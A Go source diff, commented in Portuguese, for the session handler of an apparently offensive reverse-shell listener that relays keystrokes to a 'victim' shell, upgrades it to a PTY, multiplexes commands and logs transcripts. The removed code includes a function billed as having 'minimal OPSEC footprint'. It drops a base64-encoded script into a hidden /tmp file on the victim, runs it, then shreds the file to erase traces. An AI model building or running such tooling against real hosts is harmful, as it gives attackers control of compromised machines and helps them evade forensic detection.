@@ -1,7 +1,8 @@
 package internal
 
 import (
-	"encoding/base64"
+	"context"
+	"errors"
 	"fmt"
 	"io"
 	"net"
@@ -19,19 +20,32 @@ import (
 // Handler gerencia uma sessão de reverse shell
 // A vítima já enviou uma shell conectada, nós fazemos relay do I/O
 type Handler struct {
-	conn         net.Conn     // Conexão com a vítima (que já tem shell rodando)
-	sessionID    string       // ID da sessão para logs
-	originalTerm *term.State  // Estado original do terminal para restaurar
-	onClose      func(string) // Callback quando conexão fechar
-	platform     string       // Platform detected ("windows", "linux", "unknown")
+	conn         net.Conn       // Stream interativo da vítima (que já tem shell rodando)
+	mux          *SessionMux    // Demultiplexador da conexão (comandos com marcadores)
+	sessionID    string         // ID da sessão para logs
+	originalTerm *term.State    // Estado original do terminal para restaurar
+	onClose      func(string)   // Callback quando conexão fechar
+	platform     string         // Platform detected ("windows", "linux", "unknown")
+	logger       *SessionLogger // Transcript logger (nil = logging disabled)
+	pty          *PTYUpgrader   // Upgrader usado no upgrade PTY (para resize)
+	ptyActive    bool           // PTY já foi feito upgrade em uma entrada anterior
+
+	controlResize func(tty string, width, height int) error // Redimensiona o PTY pelo canal de controle
 }
 
 // NewHandler cria um novo handler para reverse shell
 // Diferente do anterior: não executamos comandos localmente,
 // fazemos relay entre usuário local e shell remota da vítima
 func NewHandler(conn net.Conn, sessionID string) *Handler {
+	// Toda leitura passa pelo mux; conexões cruas ganham um
+	mux, ok := conn.(*SessionMux)
+	if !ok {
+		mux = NewSessionMux(conn)
+	}
+
 	return &Handler{
-		conn:         conn,
+		conn:         mux,
+		mux:          mux,
 		sessionID:    sessionID,
 		originalTerm: nil,
 		onClose:      nil,
@@ -48,6 +62,25 @@ func (h *Handler) SetPlatform(platform string) {
 	h.platform = platform
 }
 
+// SetNativePTY marca a shell como já tendo um PTY de verdade (sessões SSH)
+// O upgrade é pulado e redimensionamentos usam resize em vez de stty
+func (h *Handler) SetNativePTY(resize func(width, height int) error) {
+	h.pty = NewPTYUpgrader(h.conn, h.sessionID)
+	h.pty.resize = resize
+	h.ptyActive = true
+}
+
+// SetControlResize define como redimensionar o PTY remoto fora da shell interativa
+// Usado depois do upgrade, com o terminal descoberto pelo upgrader
+func (h *Handler) SetControlResize(resize func(tty string, width, height int) error) {
+	h.controlResize = resize
+}
+
+// SetLogger define o logger de transcript da sessão
+func (h *Handler) SetLogger(logger *SessionLogger) {
+	h.logger = logger
+}
+
 // Start inicia o relay interativo entre usuário local e shell remota
 // Esta é a função principal que conecta stdin/stdout local com a conexão remota
 func (h *Handler) Start() error {
@@ -78,6 +111,7 @@ func (h *Handler) Start() error {
 	} else {
 		// Mostra output inicial da vítima (prompt, banner, etc.)
 		os.Stdout.Write(initialBuffer[:n])
+		h.logger.LogOutput(initialBuffer[:n])
 	}
 
 	// Remove timeout após conectar
@@ -85,18 +119,25 @@ func (h *Handler) Start() error {
 
 	// Tenta upgrade PTY apenas se não for Windows
 	// Se bem-sucedido, ativa raw mode (como o Penelope faz)
-	ptySuccess := false
-	if h.platform != "windows" {
+	// Em reentradas o PTY remoto continua ativo: só reenvia o tamanho se mudou
+	ptySuccess := h.ptyActive
+	if ptySuccess {
+		h.pty.SyncSize()
+	} else if h.platform != "windows" {
 		ptySuccess = h.attemptPTYUpgrade()
 	}
 
-	// Se PTY upgrade funcionou, ativa raw mode
+	// Se PTY upgrade funcionou, ativa raw mode e propaga redimensionamentos (SIGWINCH)
 	if ptySuccess {
 		if err := h.setupRawMode(); err != nil {
 			fmt.Printf("Warning: failed to setup raw mode after PTY: %v\n", err)
 		} else {
 			defer h.restoreTerminal()
 		}
+
+		resizeDone := make(chan struct{})
+		defer close(resizeDone)
+		h.pty.SetupResizeHandler(resizeDone)
 	}
 
 	// Não precisa de drain adicional - detectSessionInfo() já rodou antes de Start()
@@ -117,11 +158,20 @@ func (h *Handler) Start() error {
 	}
 
 	// Goroutine 2: Remote connection → Local stdout (output da vítima → nós)
-	go h.relayRemoteToLocal(errorChan)
+	relayDone := make(chan struct{})
+	go func() {
+		h.relayRemoteToLocal(errorChan)
+		close(relayDone)
+	}()
 
 	// Aguarda até uma das goroutines terminar (erro ou EOF)
 	err = <-errorChan
 
+	// Para o relay remoto → local: senão ele continua lendo (e imprimindo) no menu
+	h.conn.SetReadDeadline(time.Now())
+	<-relayDone
+	h.conn.SetReadDeadline(time.Time{})
+
 	// Notifica que conexão fechou se callback foi definido
 	if h.onClose != nil && err != nil && err != io.EOF {
 		h.onClose(h.sessionID)
@@ -149,6 +199,14 @@ func (h *Handler) readlineLoop(errorChan chan error) {
 		f.Close()
 	}
 
+	// Salva histórico ao sair
+	defer func() {
+		if f, err := os.Create(historyPath); err == nil {
+			line.WriteHistory(f)
+			f.Close()
+		}
+	}()
+
 	// Channel para capturar Ctrl-C
 	sigChan := make(chan os.Signal, 1)
 	signal.Notify(sigChan, syscall.SIGINT)
@@ -175,6 +233,7 @@ func (h *Handler) readlineLoop(errorChan chan error) {
 		case <-ctrlCPressed:
 			// Envia ^C para shell remota
 			h.conn.Write([]byte{0x03})
+			h.logger.LogInput([]byte{0x03})
 			fmt.Println("^C")
 			continue
 		default:
@@ -184,6 +243,7 @@ func (h *Handler) readlineLoop(errorChan chan error) {
 			if err == liner.ErrPromptAborted {
 				// Ctrl-C durante o prompt
 				h.conn.Write([]byte{0x03})
+				h.logger.LogInput([]byte{0x03})
 				fmt.Println("^C")
 				continue
 			}
@@ -209,12 +269,7 @@ func (h *Handler) readlineLoop(errorChan chan error) {
 			errorChan <- fmt.Errorf("write to remote error: %w", writeErr)
 			return
 		}
-	}
-
-	// Salva histórico ao sair
-	if f, err := os.Create(historyPath); err == nil {
-		line.WriteHistory(f)
-		f.Close()
+		h.logger.LogInput([]byte(input + "\n"))
 	}
 }
 
@@ -245,6 +300,7 @@ func (h *Handler) relayLocalToRemote(errorChan chan error) {
 			errorChan <- fmt.Errorf("write to remote error: %w", writeErr)
 			return
 		}
+		h.logger.LogInput(data)
 	}
 }
 
@@ -282,6 +338,8 @@ func (h *Handler) relayRemoteToLocal(errorChan chan error) {
 		if err != nil {
 			if err == io.EOF {
 				errorChan <- io.EOF
+			} else if errors.Is(err, os.ErrDeadlineExceeded) {
+				return // Start() encerrou o relay ao voltar pro menu
 			} else {
 				errorChan <- fmt.Errorf("remote to local relay error: %w", err)
 			}
@@ -290,6 +348,7 @@ func (h *Handler) relayRemoteToLocal(errorChan chan error) {
 
 		// Normaliza alguns caracteres problemáticos de raw shells
 		output := h.normalizeOutput(buffer[:n])
+		h.logger.LogOutput(output)
 
 		_, writeErr := os.Stdout.Write(output)
 		if writeErr != nil {
@@ -322,6 +381,13 @@ func (h *Handler) attemptPTYUpgrade() bool {
 	if err == nil {
 		// PTY upgrade bem-sucedido - drenar output de setup
 		h.drainSetupOutput()
+		if tty := upgrader.TTY(); tty != "" && h.controlResize != nil {
+			upgrader.resize = func(width, height int) error {
+				return h.controlResize(tty, width, height)
+			}
+		}
+		h.pty = upgrader
+		h.ptyActive = true
 		return true
 	}
 	// Falhou ou não foi possível fazer upgrade
@@ -396,22 +462,8 @@ func (h *Handler) isConnectionAlive() bool {
 		return false
 	}
 
-	// Testa leitura com timeout muito curto
-	h.conn.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
-	buffer := make([]byte, 1)
-	_, err = h.conn.Read(buffer)
-	h.conn.SetReadDeadline(time.Time{})
-
-	// Se deu timeout, conexão está viva mas sem dados (normal)
-	// Se deu EOF ou outro erro de conexão, está morta
-	if err != nil {
-		if netErr, ok := err.(net.Error); ok && netErr.Timeout() {
-			return true // Timeout é normal, conexão viva
-		}
-		return false // EOF ou erro real
-	}
-
-	return true
+	// O mux é o único leitor: se ele viu EOF ou erro, a conexão está morta
+	return !h.mux.Closed()
 }
 
 // GetSessionID retorna o ID da sessão
@@ -419,10 +471,13 @@ func (h *Handler) GetSessionID() string {
 	return h.sessionID
 }
 
-// SendCommand envia um comando para a shell remota (útil para automação futura)
+// SendCommand executa um comando na shell remota descartando o output
+// Passa pelo mux, então nada aparece na shell interativa
 func (h *Handler) SendCommand(command string) error {
-	_, err := h.conn.Write([]byte(command + "\n"))
-	if err != nil {
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+
+	if _, _, err := h.mux.Exec(ctx, command); err != nil {
 		return fmt.Errorf("failed to send command: %w", err)
 	}
 	return nil
@@ -475,203 +530,20 @@ func (h *Handler) setupSignalHandler() {
 
 // ExecuteCommand executes a command on the remote shell and returns output
 // This is used for file transfer and other background operations
-// It doesn't interfere with interactive shell mode
+// It doesn't interfere with interactive shell mode (output is routed by the mux)
 func (h *Handler) ExecuteCommand(cmd string) (string, error) {
-	// Send command
-	_, err := h.conn.Write([]byte(cmd + "\n"))
-	if err != nil {
-		return "", fmt.Errorf("failed to send command: %w", err)
-	}
-
-	// Wait for command to execute
-	time.Sleep(200 * time.Millisecond)
-
-	// Read output with timeout
-	var output strings.Builder
-	buffer := make([]byte, 8192)
-	h.conn.SetReadDeadline(time.Now().Add(3 * time.Second))
-
-	for {
-		n, err := h.conn.Read(buffer)
-		if err != nil {
-			break // Timeout or EOF
-		}
-
-		if n > 0 {
-			output.Write(buffer[:n])
-		}
-
-		// If we got less than buffer size, might be done
-		if n < len(buffer) {
-			time.Sleep(100 * time.Millisecond)
-			// Try one more small read
-			h.conn.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
-			n, err := h.conn.Read(buffer)
-			if err == nil && n > 0 {
-				output.Write(buffer[:n])
-			}
-			break
-		}
-	}
-
-	h.conn.SetReadDeadline(time.Time{})
-	return output.String(), nil
-}
-
-// ExecuteWithStreaming executes a command remotely and streams output to local file
-// This captures output directly from the connection in real-time (like Penelope does)
-func (h *Handler) ExecuteWithStreaming(cmd, localOutputPath string) error {
-	// Create local output file
-	localFile, err := os.Create(localOutputPath)
-	if err != nil {
-		return fmt.Errorf("failed to create local file: %w", err)
-	}
-	defer localFile.Close()
-
-	// Send command with a unique marker at the end
-	marker := fmt.Sprintf("__GUMMY_DONE_%d__", time.Now().UnixNano())
-	fullCmd := fmt.Sprintf("%s\necho '%s'\n", cmd, marker)
-
-	_, err = h.conn.Write([]byte(fullCmd))
-	if err != nil {
-		return fmt.Errorf("failed to send command: %w", err)
-	}
-
-	// Read output in real-time until we see the marker
-	buffer := make([]byte, 4096)
-	var accumulated strings.Builder
-	h.conn.SetReadDeadline(time.Now().Add(10 * time.Minute)) // Max 10 minutes for script
-
-	for {
-		n, err := h.conn.Read(buffer)
-		if err != nil {
-			if err == io.EOF {
-				break
-			}
-			// Check if it's just a timeout but we already got the marker
-			if strings.Contains(accumulated.String(), marker) {
-				break
-			}
-			return fmt.Errorf("read error: %w", err)
-		}
-
-		if n > 0 {
-			chunk := string(buffer[:n])
-			accumulated.WriteString(chunk)
-
-			// Write to local file immediately (real-time streaming)
-			localFile.WriteString(chunk)
-			localFile.Sync()
-
-			// Check if we've received the completion marker
-			if strings.Contains(accumulated.String(), marker) {
-				// Remove deadline immediately to avoid timeout errors
-				h.conn.SetReadDeadline(time.Time{})
-				break
-			}
-		}
-	}
-
-	// Ensure deadline is cleared
-	h.conn.SetReadDeadline(time.Time{})
-
-	// Clean the output file from shell noise
-	finalContent := accumulated.String()
-
-	// Find where marker appears
-	markerIndex := strings.Index(finalContent, marker)
-	if markerIndex != -1 {
-		finalContent = finalContent[:markerIndex]
-	}
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
 
-	// Don't rewrite the file - leave raw output intact
-	// This prevents tail -f from showing duplicate content when file is truncated
-	// User can see raw output in real-time via tail -f in separate terminal
-	// If they want clean output later, they can manually clean it or use cat
-
-	return nil
-}
-
-// ExecuteScriptFromStdin executes script with minimal OPSEC footprint
-// Uses /tmp/ briefly (file exists for ~seconds), but gives clean output
-func (h *Handler) ExecuteScriptFromStdin(interpreter, args string, scriptData []byte, localOutputPath string) error {
-	// Create local output file
-	localFile, err := os.Create(localOutputPath)
+	output, _, err := h.mux.Exec(ctx, cmd)
 	if err != nil {
-		return fmt.Errorf("failed to create local file: %w", err)
+		return output, fmt.Errorf("failed to execute command: %w", err)
 	}
-	defer localFile.Close()
-
-	// Use /tmp/ with hidden filename
-	tempFile := fmt.Sprintf("/tmp/.gummy_%d", time.Now().UnixNano())
-	doneMarker := fmt.Sprintf("__GUMMY_DONE_%d__", time.Now().UnixNano())
-
-	// Base64 encode to avoid any escaping issues
-	scriptB64 := base64.StdEncoding.EncodeToString(scriptData)
-
-	// Single line: decode to temp, execute, shred/delete
-	// This is clean, works reliably, and file exists briefly
-	fullCmd := fmt.Sprintf("echo %s|base64 -d>%s;%s %s%s;shred -uz %s 2>/dev/null||rm -f %s;echo %s\n",
-		scriptB64, tempFile, interpreter, tempFile, args, tempFile, tempFile, doneMarker)
-
-	_, err = h.conn.Write([]byte(fullCmd))
-	if err != nil {
-		return fmt.Errorf("failed to send command: %w", err)
-	}
-
-	// Read output in real-time until done marker
-	buffer := make([]byte, 4096)
-	var accumulated strings.Builder
-	h.conn.SetReadDeadline(time.Now().Add(5 * time.Minute))
-
-	for {
-		n, err := h.conn.Read(buffer)
-		if err != nil {
-			if err == io.EOF {
-				break
-			}
-			if accumulated.Len() > 0 && strings.Contains(accumulated.String(), doneMarker) {
-				break
-			}
-			return fmt.Errorf("read error: %w", err)
-		}
-
-		if n > 0 {
-			chunk := string(buffer[:n])
-			accumulated.WriteString(chunk)
-
-			// Write to local file immediately
-			localFile.WriteString(chunk)
-			localFile.Sync()
-
-			// Check for done marker
-			if strings.Contains(accumulated.String(), doneMarker) {
-				break
-			}
-		}
-	}
-
-	h.conn.SetReadDeadline(time.Time{})
-
-	// Clean output (remove done marker and shell noise)
-	finalContent := accumulated.String()
-
-	// Remove done marker
-	markerIndex := strings.Index(finalContent, doneMarker)
-	if markerIndex != -1 {
-		finalContent = finalContent[:markerIndex]
-	}
-
-	// Don't rewrite the file - leave raw output intact
-	// This prevents tail -f from showing duplicate content when file is truncated
-	// User can see raw output in real-time via tail -f in separate terminal
-	// If they want clean output later, they can manually clean it or use cat
-
-	return nil
+	return output, nil
 }
 
-// GetConnection returns the underlying connection
-// Used for direct file transfer operations
-func (h *Handler) GetConnection() net.Conn {
-	return h.conn
-}
\ No newline at end of file
+// Default time limits for module executions (script_timeout/binary_timeout in the settings)
+const (
+	defaultScriptTimeout = 10 * time.Minute
+	defaultBinaryTimeout = 5 * time.Minute // Binaries run in the background and are tailed
+)